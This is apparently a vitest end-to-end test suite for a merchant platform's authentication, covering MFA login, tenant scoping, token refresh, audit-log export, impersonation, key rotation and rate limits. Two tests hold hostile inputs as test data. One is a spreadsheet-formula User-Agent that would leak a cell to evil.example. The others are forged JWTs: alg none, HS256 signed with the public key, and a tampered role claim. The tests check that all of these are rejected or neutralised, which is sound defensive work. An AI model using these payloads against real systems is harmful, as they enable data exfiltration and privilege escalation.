import { parse } from "csv-parse/sync";
import { createClient } from "graphql-ws";
import { decodeJwt, type JWK, SignJWT, UnsecuredJWT } from "jose";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import WebSocket from "ws";
import { type DemoFile, type DemoUser, demoUrls } from "../../apps/platform/src/demo";
import { rotateSigningKeys } from "../../apps/platform/src/signing-keys";
import { clusterWiring, uniqueCode } from "../support/environment";
import {
  demoUser,
  getJson as get,
  inProcessOnly,
  logIn,
  postGraphQL,
  postJson,
  readDemo,
  startTestPlatform,
  type TestPlatform,
} from "../support/platform";
import { operator } from "../support/portal-seed";
import { type SeededStore, seed } from "../support/seed";

describe("human identity through the edge", () => {
  let platform: TestPlatform;
  let demo: DemoFile;
  const tokens: Record<string, string> = {};

  beforeAll(async () => {
    platform = await startTestPlatform({ devMailbox: true });
    demo = readDemo(platform.dataDir);
    for (const role of ["SYSTEM_OP", "MERCHANT_ADMIN", "AREA_MANAGER", "STORE_MANAGER", "STAFF"] as const) {
      tokens[role] = (await logIn(platform.baseUrl, demoUser(demo, role))).access_token;
    }
  });
  afterAll(() => platform?.close());

  it("writes one demo user of each tier with login ids in the spec's formats", () => {
    expect(demo.users.map((user) => user.tier)).toEqual(["L0", "L1", "L2", "L3", "L4", "L5", "L6"]);
    expect(demo.users.map((user) => user.login_id.slice(0, 4))).toEqual([
      "SYS-",
      "PSP-",
      "MCH-",
      "ARA-",
      "STR-",
      "SLR-",
      "STF-",
    ]);
    expect(demoUser(demo, "STAFF").login_id).toMatch(/^STF-001-[A-Z0-9]{3}$/);
    expect(demoUser(demo, "SYSTEM_OP").totp_secret).toBeTruthy();
    expect(demoUser(demo, "STAFF").pin).toMatch(/^\d{6}$/);
  });

  it("logs in with password and MFA, and the token carries the tier's place", async () => {
    const claims = decodeJwt(tokens.AREA_MANAGER!);
    expect(claims).toMatchObject({ role: "AREA_MANAGER", merchant_id: demo.merchant.id, area_id: demo.area.id });
    const login = await postJson(platform.baseUrl, "/auth/user/login", {
      login_id: demoUser(demo, "PSP_ADMIN").login_id,
      password: demoUser(demo, "PSP_ADMIN").password,
    });
    expect(login).toEqual({
      status: 200,
      body: { user_id: demoUser(demo, "PSP_ADMIN").user_id, mfa_required: true, mfa_channel: "totp" },
    });
    const wrong = await postJson(platform.baseUrl, "/api/v1/auth/user/login", {
      login_id: demoUser(demo, "PSP_ADMIN").login_id,
      password: "not the password",
    });
    expect(wrong).toMatchObject({ status: 401, body: { code: "unauthorized" } });
  });

  it("scopes tenant reads by the caller and refuses anonymous ones", async () => {
    const storePath = `/api/v1/stores/${demo.store.id}`;
    expect(await get(platform.baseUrl, storePath)).toMatchObject({ status: 401, body: { code: "unauthorized" } });
    for (const role of ["SYSTEM_OP", "MERCHANT_ADMIN", "AREA_MANAGER", "STORE_MANAGER", "STAFF"]) {
      expect((await get(platform.baseUrl, storePath, tokens[role])).status).toBe(200);
    }
    const query = "{ psps { nodes { id } } merchants { nodes { id } } stores { nodes { id } } }";
    const staff = await postGraphQL(platform.baseUrl, query, {}, tokens.STAFF);
    expect(staff.body.data).toEqual({
      psps: { nodes: [] },
      merchants: { nodes: [] },
      stores: { nodes: [{ id: demo.store.id }] },
    });
    const admin = await postGraphQL(platform.baseUrl, query, {}, tokens.MERCHANT_ADMIN);
    expect(admin.body.data).toEqual({
      psps: { nodes: [] },
      merchants: { nodes: [{ id: demo.merchant.id }] },
      stores: { nodes: [{ id: demo.store.id }] },
    });
    const merchant = await postGraphQL(
      platform.baseUrl,
      "query($id: Int!) { merchant(id: $id) { id } }",
      { id: demo.merchant.id },
      tokens.STORE_MANAGER,
    );
    expect(merchant.body.errors?.[0].extensions.code).toBe("FORBIDDEN");
  });

  it("rotates refresh tokens over REST and ends the session on replay", async () => {
    const session = await logIn(platform.baseUrl, demoUser(demo, "STAFF_LEADER"));
    const next = await postJson(platform.baseUrl, "/api/v1/auth/user/token/refresh", {
      refresh_token: session.refresh_token,
    });
    expect(next).toMatchObject({ status: 200, body: { expires_in: 900, token_type: "Bearer" } });
    const replay = await postJson(platform.baseUrl, "/auth/user/token/refresh", {
      refresh_token: session.refresh_token,
    });
    expect(replay).toMatchObject({ status: 401, body: { code: "unauthorized" } });
    const after = await postJson(platform.baseUrl, "/auth/user/token/refresh", {
      refresh_token: next.body.refresh_token,
    });
    expect(after.status).toBe(401);
  });

  // In-process only: the development mailbox is the embedded platform's memory.
  inProcessOnly(
    "manages users over REST, and a system operator reads e-mail MFA codes in the development mailbox",
    async () => {
      const email = `manager-${Date.now()}@example.com`;
      const created = await postJson(
        platform.baseUrl,
        "/api/v1/users",
        {
          role: "STORE_MANAGER",
          store_id: demo.store.id,
          password: "a long enough password",
          mfa_channel: "email",
          email,
        },
        tokens.MERCHANT_ADMIN,
      );
      expect(created.status).toBe(201);
      expect(created.body.login_id).toMatch(/^STR-\d{8}-[A-Z0-9]{3}$/);
      expect(created.body).not.toHaveProperty("password_hash");
      const refused = await postJson(
        platform.baseUrl,
        "/api/v1/users",
        { role: "MERCHANT_ADMIN", merchant_id: demo.merchant.id, password: "a long enough password" },
        tokens.STORE_MANAGER,
      );
      expect(refused.status).toBe(403);

      const login = await postJson(platform.baseUrl, "/api/v1/auth/user/login", {
        email,
        password: "a long enough password",
      });
      expect(login.body).toMatchObject({ mfa_required: true, mfa_channel: "email" });
      const sent = await postJson(platform.baseUrl, "/api/v1/auth/user/mfa/send", { user_id: login.body.user_id });
      expect(sent.body).toMatchObject({ sent: true, channel: "email" });
      const messages = await get(platform.baseUrl, "/api/v1/dev/messages", tokens.SYSTEM_OP);
      // What the sandbox mail server received over SMTP, as the development mailbox shows it.
      const message = messages.body.data.find((m: { to: string[] }) => m.to.includes(email));
      const code = /(\d{6})/.exec(message.text)![1];
      const verified = await postJson(platform.baseUrl, "/api/v1/auth/user/mfa/verify", {
        user_id: login.body.user_id,
        code,
      });
      expect(verified.status).toBe(200);

      const staff = await get(platform.baseUrl, `/api/v1/stores/${demo.store.id}/staff`, verified.body.access_token);
      expect(staff.body.map((u: { role: string }) => u.role).sort()).toEqual(["STAFF", "STAFF_LEADER"]);
      const patched = await fetch(`${platform.baseUrl}/api/v1/users/${created.body.id}`, {
        method: "PATCH",
        headers: { "content-type": "application/json", authorization: `Bearer ${tokens.MERCHANT_ADMIN}` },
        body: JSON.stringify({ login_id: "STR-00000000-AAA" }),
      });
      expect(patched.status).toBe(400);

      const asMerchantAdmin = (method: string, path: string) =>
        fetch(`${platform.baseUrl}${path}`, { method, headers: { authorization: `Bearer ${tokens.MERCHANT_ADMIN}` } });
      const read = await asMerchantAdmin("GET", `/api/v1/users/${created.body.id}`);
      expect(await read.json()).toMatchObject({ id: created.body.id, login_id: created.body.login_id });
      const unlocked = await asMerchantAdmin("POST", `/api/v1/users/${created.body.id}/unlock`);
      expect(unlocked.status).toBe(200);
      const deleted = await asMerchantAdmin("DELETE", `/api/v1/users/${created.body.id}`);
      expect(await deleted.json()).toMatchObject({ id: created.body.id, status: "inactive" });
      const loginAfter = await postJson(platform.baseUrl, "/api/v1/auth/user/login", {
        email,
        password: "a long enough password",
      });
      expect(loginAfter.status).toBeGreaterThanOrEqual(400);
    },
  );

  /** A store manager of the demo store, created by its merchant admin. */
  const newStoreManager = () =>
    postJson(
      platform.baseUrl,
      "/api/v1/users",
      { role: "STORE_MANAGER", store_id: demo.store.id, password: "a long enough password" },
      tokens.MERCHANT_ADMIN,
    );

  it("answers who created, locked and unlocked a user, to its managers and not to staff", async () => {
    const created = await newStoreManager();
    expect(created.status).toBe(201);
    for (let attempt = 0; attempt < 5; attempt++) {
      const failed = await postJson(platform.baseUrl, "/api/v1/auth/user/login", {
        login_id: created.body.login_id,
        password: "not the password",
      });
      expect(failed.status).toBe(401);
    }
    const unlock = await fetch(`${platform.baseUrl}/api/v1/users/${created.body.id}/unlock`, {
      method: "POST",
      headers: { authorization: `Bearer ${tokens.MERCHANT_ADMIN}` },
    });
    expect(unlock.status).toBe(200);
    const trail = (token: string) => get(platform.baseUrl, `/api/v1/audit-logs?target=${created.body.id}`, token);
    const records = (await trail(tokens.MERCHANT_ADMIN!)).body as Record<string, any>[];
    // The fifth failure locks the user, then is recorded itself.
    expect(records.map((record) => record.event)).toEqual([
      "user.unlocked",
      "user.login_failed",
      "user.locked",
      ...Array(4).fill("user.login_failed"),
      "user.created",
    ]);
    const admin = decodeJwt(tokens.MERCHANT_ADMIN!).sub;
    expect(records.at(-1)).toMatchObject({ actor_id: admin, metadata: { login_id: created.body.login_id } });
    expect(records[2]).toMatchObject({
      actor_type: "user",
      actor_id: created.body.id,
      metadata: { method: "password" },
    });
    expect((await trail(tokens.STORE_MANAGER!)).body).toHaveLength(8);
    expect((await trail(tokens.STAFF!)).status).toBe(403);
  });

  // The probe's CSV injection: a failed login stored the caller's User-Agent as sent, and the export wrote it as a
  // formula a spreadsheet runs. The record keeps what was sent; the CSV cell is made text (each character: csv.test.ts).
  it("exports a failed login's formula-like User-Agent as text, not as a formula, and its time in ISO 8601", async () => {
    const created = await newStoreManager();
    const userAgent = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
    const failed = await fetch(`${platform.baseUrl}/api/v1/auth/user/login`, {
      method: "POST",
      headers: { "content-type": "application/json", "user-agent": userAgent },
      body: JSON.stringify({ login_id: created.body.login_id, password: "not the password" }),
    });
    expect(failed.status).toBe(401);
    const exported = await fetch(
      `${platform.baseUrl}/api/v1/audit-logs/export?format=csv&event=user.login_failed&target=${created.body.id}`,
      { headers: { authorization: `Bearer ${tokens.MERCHANT_ADMIN}` } },
    );
    const [header, row] = parse(await exported.text()) as string[][];
    expect(row![header!.indexOf("user_agent")]).toBe(`'${userAgent}`);
    expect(row![header!.indexOf("timestamp")]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    const ndjson = await fetch(
      `${platform.baseUrl}/api/v1/audit-logs/export?format=ndjson&event=user.login_failed&target=${created.body.id}`,
      { headers: { authorization: `Bearer ${tokens.MERCHANT_ADMIN}` } },
    );
    expect(JSON.parse(await ndjson.text())).toMatchObject({ user_agent: userAgent });
  });

  it("pages GET /api/v1/users with limit and offset, as the other portal lists, with paging headers", async () => {
    const store = await platform.portal.tenants.createStore(operator, {
      merchant_id: demo.merchant.id,
      code: uniqueCode("S"),
      name: "Busy store",
    });
    for (let i = 0; i < 22; i++) {
      await platform.portal.users.createUser({ role: "STAFF", name: `Staff ${i}`, store_id: store.id, pin: "204816" });
    }
    const list = (query: string) => get(platform.baseUrl, `/api/v1/users?${query}`, tokens.MERCHANT_ADMIN);
    const ids = (answer: { body: { id: string }[] }) => answer.body.map((user) => user.id);
    const all = await list(`store_id=${store.id}&limit=100`);
    expect(all.body).toHaveLength(22);
    expect(all.headers.get("x-total-count")).toBe("22");
    expect(all.headers.get("link")).toBeNull();
    const first = await list(`store_id=${store.id}`);
    expect(ids(first)).toEqual(ids(all).slice(0, 20));
    expect(first.headers.get("link")).toBe(`</api/v1/users?store_id=${store.id}&offset=20>; rel="next"`);
    const next = /^<([^>]+)>/.exec(first.headers.get("link")!)![1]!;
    expect(ids(await get(platform.baseUrl, next, tokens.MERCHANT_ADMIN))).toEqual(ids(all).slice(20));
    expect(ids(await list(`store_id=${store.id}&limit=2&offset=1`))).toEqual(ids(all).slice(1, 3));
    expect(ids(await list(`store_id=${store.id}&offset=21`))).toEqual(ids(all).slice(21));
    for (const [query, field] of [
      ["limit=101", "limit"],
      ["limit=0", "limit"],
      ["offset=-1", "offset"],
      ["limit=ten", "limit"],
      ["role=KING", "role"],
    ]) {
      const refused = await list(query!);
      expect(refused.status).toBe(400);
      expect(refused.body).toMatchObject({ code: "invalid_request", details: { field } });
    }
  });

  it("impersonates strictly downward over REST", async () => {
    const target = demoUser(demo, "STAFF").user_id;
    const ok = await postJson(
      platform.baseUrl,
      "/api/v1/auth/admin/impersonate",
      { target_user_id: target },
      tokens.MERCHANT_ADMIN,
    );
    expect(ok.status).toBe(200);
    expect(decodeJwt(ok.body.access_token)).toMatchObject({
      sub: target,
      impersonated_by: demoUser(demo, "MERCHANT_ADMIN").user_id,
    });
    const nested = await postJson(
      platform.baseUrl,
      "/auth/admin/impersonate",
      { target_user_id: target },
      ok.body.access_token,
    );
    expect(nested.status).toBe(403);
    const upward = await postJson(
      platform.baseUrl,
      "/auth/admin/impersonate",
      { target_user_id: demoUser(demo, "MERCHANT_ADMIN").user_id },
      tokens.STORE_MANAGER,
    );
    expect(upward.status).toBe(403);
  });

  it("serves both JWKS without private material", async () => {
    for (const purpose of ["human", "device"]) {
      for (const path of [`/api/v1/jwks/${purpose}`, `/jwks/${purpose}`]) {
        const { status, body } = await get(platform.baseUrl, path);
        expect(status).toBe(200);
        expect(body.keys.length).toBeGreaterThan(0);
        for (const key of body.keys as JWK[]) {
          expect(key.kid).toMatch(new RegExp(`^${purpose}-`));
          expect(key).not.toHaveProperty("d");
        }
      }
    }
  });

  it("answers bad bearer tokens with 401 unauthorized on REST and GraphQL", async () => {
    const { body: jwks } = await get(platform.baseUrl, "/api/v1/jwks/human");
    const publicKey = jwks.keys[0] as JWK;
    const claims = decodeJwt(tokens.SYSTEM_OP!);
    const none = new UnsecuredJWT(claims).encode();
    const hs = await new SignJWT(claims)
      .setProtectedHeader({ alg: "HS256", kid: publicKey.kid })
      .sign(new TextEncoder().encode(JSON.stringify(publicKey)));
    const [header, payload, signature] = tokens.STAFF!.split(".");
    const raised = Buffer.from(JSON.stringify({ ...decodeJwt(tokens.STAFF!), role: "SYSTEM_OP" })).toString(
      "base64url",
    );
    for (const token of [none, hs, `${header}.${raised}.${signature}`, "garbage", `${header}.${payload}.`]) {
      const rest = await get(platform.baseUrl, `/api/v1/stores/${demo.store.id}`, token);
      expect(rest).toMatchObject({ status: 401, body: { code: "unauthorized" } });
      const graphql = await postGraphQL(platform.baseUrl, "{ psps { nodes { id } } }", {}, token);
      expect(graphql.status).toBe(401);
    }
  });

  it("authenticates graphql-ws connections by their connection params", async () => {
    const run = (authorization: string) => {
      const client = createClient({
        url: demo.graphql_ws_url,
        webSocketImpl: WebSocket,
        retryAttempts: 0,
        connectionParams: { authorization },
      });
      return new Promise<any>((resolve, reject) => {
        client.subscribe(
          { query: "{ stores { nodes { id } } }" },
          { next: resolve, error: reject, complete: () => {} },
        );
      }).finally(() => client.dispose());
    };
    expect((await run(`Bearer ${tokens.STAFF}`)).data.stores.nodes).toEqual([{ id: demo.store.id }]);
    await expect(run("Bearer not.a.token")).rejects.toMatchObject({ code: 4401 });
  });

  it(
    "npm run keys:rotate replaces both signing keys of the stopped storage; tokens of the old key keep working through the edge",
    { timeout: 120_000 },
    async () => {
      const before = (await logIn(platform.baseUrl, demoUser(demo, "STAFF"))).access_token;
      const kidsOf = async (purpose: string) =>
        ((await get(platform.baseUrl, `/api/v1/jwks/${purpose}`)).body.keys as JWK[]).map((key) => key.kid);
      const [human, device] = [await kidsOf("human"), await kidsOf("device")];
      await platform.stop();
      const rotated = await rotateSigningKeys(platform.config);
      await platform.restart();
      expect(await kidsOf("human")).toEqual(expect.arrayContaining([...human, rotated.human]));
      expect(await kidsOf("device")).toEqual(expect.arrayContaining([...device, rotated.device]));
      expect((await get(platform.baseUrl, `/api/v1/stores/${demo.store.id}`, before)).status).toBe(200);
      const after = (await logIn(platform.baseUrl, demoUser(demo, "STAFF_LEADER"))).access_token;
      expect(JSON.parse(Buffer.from(after.split(".")[0]!, "base64url").toString()).kid).toBe(rotated.human);
    },
  );
});

// In-process only: moves the platform's clock.
describe.skipIf(clusterWiring)("signing key rotation seen through the edge", () => {
  const clock = { now: new Date() };
  let platform: TestPlatform;
  let store: SeededStore;
  /** One user of each tier the tests log in, in `store` or above it. */
  let users: Record<"PSP_ADMIN" | "SYSTEM_OP" | "MERCHANT_ADMIN" | "STAFF", DemoUser>;
  const DAY = 24 * 60 * 60 * 1000;
  const RATE_LIMIT = 30;

  beforeAll(async () => {
    platform = await startTestPlatform({ demo: false, clock: () => clock.now, rateLimits: { api: RATE_LIMIT } });
    const fixtures = seed(platform);
    store = await fixtures.store();
    users = {
      PSP_ADMIN: await fixtures.user("PSP_ADMIN", store),
      SYSTEM_OP: await fixtures.user("SYSTEM_OP", store),
      MERCHANT_ADMIN: await fixtures.user("MERCHANT_ADMIN", store),
      STAFF: await fixtures.user("STAFF", store),
    };
  });
  afterAll(() => platform?.close());

  it("keeps old tokens valid through the overlap, takes new keys at once, and rejects expiry", async () => {
    const storePath = `/api/v1/stores/${store.id}`;
    // The first token creates the first signing key; its 90 days start now.
    await logIn(platform.baseUrl, users.PSP_ADMIN, clock.now);
    clock.now = new Date(clock.now.getTime() + 90 * DAY - 60_000);
    const before = (await logIn(platform.baseUrl, users.SYSTEM_OP, clock.now)).access_token;
    expect((await get(platform.baseUrl, storePath, before)).status).toBe(200);

    clock.now = new Date(clock.now.getTime() + 2 * 60_000);
    const after = (await logIn(platform.baseUrl, users.MERCHANT_ADMIN, clock.now)).access_token;
    expect(decodeJwt(after).iat).toBeGreaterThan(decodeJwt(before).iat!);
    const kid = (token: string) => JSON.parse(Buffer.from(token.split(".")[0]!, "base64url").toString()).kid;
    expect(kid(after)).not.toBe(kid(before));
    expect((await get(platform.baseUrl, storePath, before)).status).toBe(200);
    expect((await get(platform.baseUrl, storePath, after)).status).toBe(200);

    const socket = createClient({
      url: demoUrls(platform.baseUrl).graphql_ws_url,
      webSocketImpl: WebSocket,
      retryAttempts: 0,
      connectionParams: { authorization: `Bearer ${after}` },
    });
    const query = () =>
      new Promise<any>((resolve, reject) => {
        socket.subscribe(
          { query: "{ stores { nodes { id } } }" },
          { next: resolve, error: reject, complete: () => {} },
        );
      });
    expect((await query()).data.stores.nodes).toEqual([{ id: store.id }]);

    clock.now = new Date(clock.now.getTime() + 16 * 60_000);
    // The connection outlives its token: later operations are refused until the client reconnects.
    await expect(query()).rejects.toEqual([expect.objectContaining({ extensions: { code: "UNAUTHENTICATED" } })]);
    await socket.dispose();
    expect(await get(platform.baseUrl, storePath, after)).toMatchObject({
      status: 401,
      body: { code: "unauthorized", details: { reason: "expired" } },
    });
    const { body } = await get(platform.baseUrl, "/api/v1/jwks/human");
    expect(body.keys.map((key: JWK) => key.kid)).toEqual(expect.arrayContaining([kid(before), kid(after)]));
    clock.now = new Date(clock.now.getTime() + 8 * DAY);
    const { body: later } = await get(platform.baseUrl, "/api/v1/jwks/human");
    expect(later.keys.map((key: JWK) => key.kid)).not.toContain(kid(before));
  });

  it("limits portal requests per minute per IP, signed in or not, with the rate headers", async () => {
    clock.now = new Date(clock.now.getTime() + 60_000);
    const token = (await logIn(platform.baseUrl, users.STAFF, clock.now)).access_token;
    const statuses: number[] = [];
    let last: Response | undefined;
    for (let i = 0; i < RATE_LIMIT; i++) {
      last = await fetch(`${platform.baseUrl}/api/v1/jwks/device`);
      statuses.push(last.status);
    }
    expect(statuses.filter((status) => status === 429)).toHaveLength(1);
    expect(last!.status).toBe(429);
    expect(await last!.json()).toMatchObject({ code: "rate_limit_exceeded" });
    expect(last!.headers.get("x-ratelimit-limit")).toBe(String(RATE_LIMIT));
    expect(last!.headers.get("x-ratelimit-remaining")).toBe("0");
    expect(Number(last!.headers.get("x-ratelimit-reset"))).toBeGreaterThan(clock.now.getTime() / 1000);
    // A token does not lift the IP's limit (tests/e2e/edge-security.test.ts shows the per-user one).
    expect((await get(platform.baseUrl, `/api/v1/stores/${store.id}`, token)).status).toBe(429);
    clock.now = new Date(clock.now.getTime() + 60_000);
    expect((await fetch(`${platform.baseUrl}/api/v1/jwks/device`)).status).toBe(200);
    expect((await get(platform.baseUrl, `/api/v1/stores/${store.id}`, token)).status).toBe(200);
  });
});
